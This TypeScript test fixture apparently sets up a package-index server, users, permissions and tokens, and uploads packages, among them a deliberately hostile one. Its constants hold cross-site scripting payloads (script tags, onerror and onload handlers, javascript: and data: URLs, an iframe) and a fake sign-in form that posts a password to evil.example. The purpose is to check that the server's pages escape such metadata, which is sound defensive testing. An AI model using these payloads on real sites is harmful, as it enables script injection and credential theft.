import { execFile } from "node:child_process";
import { join } from "node:path";
import { promisify } from "node:util";
import { aWheelFile, type WheelOptions } from "./archives.ts";
import { ROOT } from "./clients.ts";
import { type Account, type DevpiHttp, devpiHttp, ROOT_ACCOUNT } from "./devpi-http.ts";
import { openFakeUpstream } from "./fake-upstream.ts";
import { type Served, serveVivarium } from "./served.ts";

/** A server with its pages, and everything in it that people look at. */
export interface PagesWorld extends AsyncDisposable {
  readonly server: Served;
  readonly http: DevpiHttp;
}

export const ALICE: Account = ["alice", "alice keeps this to herself"];
/** As long as names may be. */
export const LONG_NAME = `a-${"very-".repeat(38)}long-1`;
/** What a script of a package would leave behind, were it ever run. */
const ATTACK = "globalThis.vivariumWasHad=true";

const README = `# Hello

A package that says *hello*, in **as many** languages as one likes.

## Use

\`\`\`python
from hello import greet

greet("world")
\`\`\`

| Language | Greeting |
| -------- | -------- |
| English  | Hello    |
| German   | Hallo    |

- [Documentation](https://hello.example/docs)
- \`greet\` takes a name
`;

const HOSTILE_README = `# Hostile

<script>${ATTACK}</script>
<img src=x onerror="${ATTACK}">
<a href="javascript:${ATTACK}">a link</a>
[another link](javascript:${ATTACK})
<style>body { display: none }</style>
<form action="https://evil.example/"><input name=password><button>Sign in</button></form>
<iframe srcdoc="<script>parent.vivariumWasHad=true</script>"></iframe>

![a picture](https://evil.example/track.png)
`;

const HELLO: Omit<WheelOptions, "version"> = {
  name: "hello",
  metadataVersion: "2.4",
  summary: "Says hello in as many languages as one likes",
  requiresPython: ">=3.9",
  requiresDist: ["greetings>=1.0", 'colour; extra == "pretty"'],
  headers: [
    "Keywords: greeting,hello",
    "Author-email: Alice <alice@hello.example>",
    "License-Expression: MIT",
    "Classifier: Programming Language :: Python :: 3",
    "Project-URL: Homepage, https://hello.example/",
    "Description-Content-Type: text/markdown",
    "Provides-Extra: pretty",
  ],
  description: README,
};

const HOSTILE: WheelOptions = {
  name: "hostile",
  version: "1.0",
  metadataVersion: "2.4",
  summary: `"><script>${ATTACK}</script> <b>bold</b> ‮reversed`,
  headers: [
    `Author: <img src=x onerror="${ATTACK}">`,
    `Project-URL: Home<script>, javascript:${ATTACK}`,
    `Project-URL: Data, data:text/html,<script>${ATTACK}</script>`,
    `Keywords: <svg onload="${ATTACK}">`,
    "Description-Content-Type: text/markdown",
  ],
  description: HOSTILE_README,
  files: {
    [`hostile/<img src=x onerror=${ATTACK}>.py`]: "1\n",
    "hostile/<script>.html": `<script>${ATTACK}</script>`,
    "hostile/__init__.py": `"""</script><script>${ATTACK}</script>"""\n`,
  },
};

/** Builds the pages where that is still to be done, starts a server and fills it. */
export async function openPagesWorld(): Promise<PagesWorld> {
  await promisify(execFile)(process.execPath, [join(ROOT, "scripts", "build-ui.mjs")], { timeout: 240_000 });
  await using opened = new AsyncDisposableStack();
  const upstream = opened.use(await openFakeUpstream());
  upstream.add("greetings", aWheelFile({ name: "greetings", version: "1.2", summary: "Words to greet with" }));
  upstream.add("requests", aWheelFile({ name: "requests", version: "2.0" }));
  const server = opened.use(await serveVivarium({ upstream: upstream.url }));
  const http = devpiHttp(server.url);
  await makeRepositories(http);
  await makeRules(http);
  await publish(http);
  // A remote has what somebody once asked it for.
  await http.ask("GET", "/root/pypi/+simple/greetings/", { as: null });
  const closing = opened.move();
  return { server, http, [Symbol.asyncDispose]: () => closing.disposeAsync() };
}

async function makeRepositories(http: DevpiHttp): Promise<void> {
  await made(
    http,
    "POST",
    "/api/v1/users",
    { name: "alice", password: ALICE[1], email: "alice@hello.example" },
    ROOT_ACCOUNT,
  );
  const repositories = {
    dev: { kind: "local", mutability: "volatile", title: "Alice's own packages", validation: "legacy" },
    stage: { kind: "local" },
    empty: { kind: "local" },
    all: { kind: "virtual", members: ["alice/dev", "root/pypi"] },
  };
  for (const [name, settings] of Object.entries(repositories)) {
    await made(http, "PUT", `/api/v1/repositories/alice/${name}`, settings, ALICE);
  }
}

/** Whom may do what, made by root. */
async function makeRules(http: DevpiHttp): Promise<void> {
  const group = { name: "releasers", description: "They release", members: ["alice"] };
  await made(http, "POST", "/api/v1/groups", group, ROOT_ACCOUNT);
  const permission = { repositories: ["alice/*"], groups: { releasers: ["read", "publish"] } };
  await made(http, "PUT", "/api/v1/permissions/release", permission, ROOT_ACCOUNT);
  const policy = { repositories: ["alice-*"], olderThanDays: 90, keepVersions: 3 };
  await made(http, "PUT", "/api/v1/policies/old", policy, ROOT_ACCOUNT);
  const tokens = [{ name: "the pipeline's" }, { name: "the laptop's", expiresAt: "2099-01-01T00:00:00Z" }];
  for (const token of tokens) await made(http, "POST", "/api/v1/users/alice/tokens", token, ALICE);
}

async function publish(http: DevpiHttp): Promise<void> {
  const wheels: readonly WheelOptions[] = [
    ...Array.from({ length: 12 }, (_, minor) => ({ ...HELLO, version: `1.${minor}` })),
    { ...HELLO, version: "2.0", requiresDist: ["greetings>=1.2"] },
    { ...HELLO, version: "2.0", tag: "cp313-cp313-manylinux_2_28_x86_64" },
    { ...HELLO, version: "3.0a1" },
    { name: "needs-hello", version: "1.0", summary: "Needs hello", requiresDist: ["hello>=1"] },
    { name: LONG_NAME, version: "1.0", summary: "A very long name" },
    HOSTILE,
  ];
  for (const wheel of wheels) {
    const { status, text } = await http.upload("alice/dev", wheel, ALICE);
    if (status !== 200) throw new Error(`${wheel.name} ${wheel.version} was not taken: ${status} ${text}`);
  }
  await made(
    http,
    "PUT",
    "/api/v1/repositories/alice/dev/projects/hello/versions/1.3/yank",
    { reason: "greets nobody" },
    ALICE,
  );
}

async function made(http: DevpiHttp, method: string, path: string, json: unknown, as: Account): Promise<void> {
  const basic = `Basic ${Buffer.from(as.join(":")).toString("base64")}`;
  const { status, text } = await http.ask(method, path, { as: null, json, headers: { authorization: basic } });
  if (status >= 300) throw new Error(`${method} ${path} was answered ${status}: ${text}`);
}
